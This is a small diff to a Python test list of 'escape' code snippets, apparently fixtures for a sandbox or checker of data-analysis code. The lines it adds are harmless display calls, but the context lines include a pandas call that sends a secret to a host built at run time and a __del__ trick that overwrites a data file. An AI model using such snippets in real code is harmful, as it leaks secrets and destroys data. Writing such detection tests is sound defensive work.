@@ -99,6 +99,9 @@ ESCAPES = [
     ("import pandas as pd\npd.read_csv(f'https://{host}/upload?d={secret}')",
      "an address built at run time"),
     ("import statsmodels.api as sm\nsm.datasets.get_rdataset('mtcars')", "get_rdataset"),
+    ("from IPython.display import Markdown, display\ndisplay(Markdown(f'Top region: {top}'))",
+     "IPython.display.Markdown"),
+    ("display(df.style.format('{:.2f}'))", "`.style`"),
     ("class Later:\n    def __del__(self):\n        open('data/sales.csv', 'w')\nx = Later()",
      "__del__"),
 ]
